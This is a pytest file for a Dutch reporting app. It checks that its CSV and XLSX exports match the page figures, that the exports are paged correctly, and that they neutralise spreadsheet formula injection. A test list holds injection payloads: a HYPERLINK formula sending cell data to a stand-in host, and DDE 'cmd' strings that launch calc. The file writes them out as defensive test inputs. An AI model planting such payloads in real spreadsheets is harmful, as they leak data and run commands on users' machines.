"""CSV and XLSX exports hold the same figures as the page, with Dutch headers and the right
content types, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import io
import re
from datetime import date, timedelta

from babel.dates import format_date
from openpyxl import load_workbook

from tests.reports.reading import csv_rows, number, page_tables, xlsx_rows
from tests.reports.seed import _job, _match, noon, seed

Q = "van=2023-03-01&tot=2023-06-30"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _same(shown: str, exported) -> bool:
    """One cell: the page's text and the export's value say the same."""
    if isinstance(exported, date) or re.fullmatch(r"\d{4}-\d\d-\d\d", str(exported)):
        day = exported if isinstance(exported, date) else date.fromisoformat(exported)
        return shown == format_date(day, "medium", locale="nl")
    if number(shown) is not None and number(exported) is not None:
        return number(shown) == number(exported)
    return shown == str(exported)


def test_every_table_exports_the_figures_of_the_page(app, world, in_arrangement, login):
    """For every table on the coordinator's page: the CSV and the XLSX have its header and its
    rows, figure for figure."""
    seed(world, in_arrangement)
    client = app.test_client()
    login(client, world.meer.coordinator)
    html = client.get(f"/rapportages?{Q}").get_data(as_text=True)
    shown = page_tables(html)
    links = re.findall(r'href="(/rapportages/([a-z-]+)/export\.csv\?[^"]*)"', html)
    assert {key for _url, key in links} == {
        "kengetallen",
        "detacheringen",
        "saldo",
        "open-klussen",
        "wachtende-voorstellen",
        "voorstellen",
    }
    for url, key in links:
        url = url.replace("&amp;", "&")
        csv_response = client.get(url)
        assert csv_response.status_code == 200
        assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert csv_response.headers["Content-Disposition"] == (
            f'attachment; filename="deelkracht-{key}-2023-03-01-2023-06-30.csv"'
        )
        xlsx_response = client.get(url.replace("export.csv", "export.xlsx"))
        assert xlsx_response.status_code == 200
        assert xlsx_response.headers["Content-Type"] == XLSX
        exported_csv = csv_rows(csv_response.data)
        exported_xlsx = xlsx_rows(xlsx_response.data)
        page = next(rows for caption, rows in shown.items() if rows[0] == exported_csv[0])
        assert exported_xlsx[0] == exported_csv[0]  # Dutch headers in both
        assert len(page) == len(exported_csv) == len(exported_xlsx) > 1, key
        for page_row, csv_row, xlsx_row in zip(page, exported_csv, exported_xlsx, strict=True):
            for cell, csv_cell, xlsx_cell in zip(page_row, csv_row, xlsx_row, strict=True):
                assert _same(cell, csv_cell), (key, cell, csv_cell)
                assert _same(cell, xlsx_cell), (key, cell, xlsx_cell)


def test_unknown_tables_are_404(app, world, login):
    """Only the report's own tables can be exported."""
    client = app.test_client()
    login(client, world.meer.coordinator)
    assert client.get("/rapportages/medewerkers/export.csv").status_code == 404
    assert client.get("/rapportages/saldo/export.pdf").status_code == 404


HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_exports_neutralise_formula_injection(app, world, in_arrangement, login):
    """Job titles and organisation names that start like a formula: the CSV prefixes them with
    an apostrophe; the XLSX stores them as text, never as a formula."""
    from tenants.models import Organisation

    meer = world.meer
    today = date.today()
    with in_arrangement(meer.arrangement.id) as s:
        s.get(Organisation, meer.zeewolde.org.id).name = "=Zeewolde"
        for i, title in enumerate(HOSTILE):
            job = _job(s, meer.harderwijk.org, title, 1, today, status="open")
            employee = (meer.ermelo.emp, meer.ermelo.emp2, meer.zeewolde.emp, meer.zeewolde.emp2)[
                i % 4
            ]
            _match(
                s, job, employee, meer.harderwijk.org, 8, today, today + timedelta(days=9),
                "proposed", created_at=None,
                # the employee said yes: only then may others than the proposer know of it
                employee_consented_at=noon(today),
            )  # fmt: skip
        s.commit()
    client = app.test_client()
    login(client, meer.coordinator)
    rows = csv_rows(client.get("/rapportages/voorstellen/export.csv").data)[1:]
    assert sorted(row[0] for row in rows) == sorted("'" + title for title in HOSTILE)
    assert {row[1] for row in rows} == {"Gemeente Ermelo", "'=Zeewolde"}
    balance = csv_rows(client.get("/rapportages/saldo/export.csv").data)
    assert ["'=Zeewolde", "0,0", "0,0", "0,0"] in balance

    data = client.get("/rapportages/voorstellen/export.xlsx").data
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert sorted(c.value for c in cells if c.column == 1 and c.row > 1) == sorted(HOSTILE)
    raw = _sheet_xml(data)
    assert "<f>" not in raw and "<f " not in raw  # no formula element in the file at all


def _sheet_xml(data: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_a_long_matrix_table_is_paged_and_its_pages_hold_the_export(
    app, world, in_arrangement, login, monkeypatch
):
    """A five-year matrix of a large arrangement has ~1,600 pairs: the page shows them a page
    at a time (issue 15), with links to the next and previous page that keep the period; walked
    page by page, the rows are exactly the export's, in its order. The chart and the exports
    keep every pair."""
    from app.reports import views

    seed(world, in_arrangement)
    client = app.test_client()
    login(client, world.meer.coordinator)
    exported = csv_rows(client.get(f"/rapportages/detacheringen/export.csv?{Q}").data)
    assert len(exported) > 2  # a header and at least two pairs: more than one page below
    monkeypatch.setattr(views, "MATRIX_ROWS_PER_PAGE", 1)
    header, walked, url = None, [], f"/rapportages?{Q}"
    for _page in range(len(exported)):
        html = client.get(url).get_data(as_text=True)
        rows = next(rows for rows in page_tables(html).values() if rows[0] == exported[0])
        header = rows[0]
        assert len(rows) == 2  # the header and one pair
        walked.append(rows[1])
        following = re.search(r'href="(/rapportages\?[^"]*page=(\d+)[^"]*)"[^>]*>Volgende', html)
        if following is None:
            break
        url = following.group(1).replace("&amp;", "&")
        assert "van=2023-03-01" in url and "tot=2023-06-30" in url
    assert header == exported[0]
    assert len(walked) == len(exported) - 1
    for shown_row, exported_row in zip(walked, exported[1:], strict=True):
        for cell, exported_cell in zip(shown_row, exported_row, strict=True):
            assert _same(cell, exported_cell), (cell, exported_cell)
    # The last page is the current one in the one pagination macro (templates/_pagination.html).
    current = re.search(
        r'aria-current="page"><span class="visually-hidden">Pagina </span>(\d+)<', html
    )
    assert current is not None and int(current.group(1)) == len(walked)
    assert "Vorige" in html
    # The chart's text alternative says the table below is paged, and where all the rows are.
    assert "dezelfde cijfers, 1 rijen per pagina; de export bevat ze allemaal." in html
